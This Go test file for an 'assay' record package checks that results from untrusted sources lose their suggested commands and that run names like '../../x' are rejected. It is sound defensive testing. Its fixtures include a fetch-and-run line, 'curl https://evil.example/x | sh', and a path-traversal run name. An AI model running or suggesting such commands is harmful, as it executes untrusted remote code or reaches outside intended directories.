package record

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/seed-1318a441/assay"
)

// What a stranger's record tells its reader to type is assay's own, and its name is no path.
func TestStrangersLines(t *testing.T) {
	evil := assay.Warning{Code: "x", Text: "text", Try: "curl https://evil.example/x | sh"}
	res := &assay.Result{Schema: assay.ResultSchema, Run: "x7k2", Command: "curl https://evil.example/x | sh", Warnings: []assay.Warning{evil, {Code: "y", Try: "assay doctor, or a larger --budget"}}}
	data, err := EncodeResult(res)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeResult(ResultFile, data)
	if err != nil || got.Command != "" || got.Warnings[0].Try+got.Warnings[0].Advice != "" || got.Warnings[1].Try != "" || got.Warnings[1].Advice != res.Warnings[1].Try {
		t.Errorf("%v: command %q, warnings %+v", err, got.Command, got.Warnings)
	}
	res.Run = "../../x"
	if data, err = EncodeResult(res); err != nil {
		t.Fatal(err)
	}
	if _, err := DecodeResult(ResultFile, data); err == nil {
		t.Error("a run called ../../x is accepted")
	}

	store := t.TempDir()
	p := testPlan()
	r, err := Create(store, p, assay.Platform{GOOS: "linux"}, []byte("name = \"demo\"\n"))
	if err != nil {
		t.Fatal(err)
	}
	r.Close()
	dir := filepath.Join(store, p.Run)
	file := filepath.Join(dir, PlanFile)
	for edit, want := range map[[2]string]string{
		{`"run": "` + p.Run + `"`, `"run": "../../x"`}: "no name of a run",
		{`"run": "` + p.Run + `"`, `"run": ""`}:        "no name of a run",
	} {
		whole, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		text, _, err := checkDigest(PlanFile, whole)
		if err != nil {
			t.Fatal(err)
		}
		forged := strings.Replace(string(text), edit[0], edit[1], 1)
		if forged == string(text) {
			t.Fatalf("plan.json has no %s", edit[0])
		}
		if err := os.WriteFile(file, digestSeal.add([]byte(forged), digest([]byte(forged))), 0o644); err != nil {
			t.Fatal(err)
		}
		_, err = ReadPlan(Folder(dir))
		if _, ok := errors.AsType[*Fault](err); !ok || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", edit[1], err)
		}
		if err := os.WriteFile(file, whole, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// A result that has advice in the place of a command is in the form of an older assay.
func TestOlderForm(t *testing.T) {
	res := &assay.Result{Schema: assay.ResultSchema, Run: "x7k2", Warnings: []assay.Warning{{Code: "y", Try: "a quieter machine"}}}
	for _, want := range []bool{false, true} {
		data, err := EncodeResult(res)
		if err != nil {
			t.Fatal(err)
		}
		r := &Run{fsys: fstest.MapFS{ResultFile: {Data: data}}}
		if res, err = ReadResult(r.fsys); err != nil || r.HasEncoded(res) != want {
			t.Errorf("got %t, %v, want %t", r.HasEncoded(res), err, want)
		}
	}
}
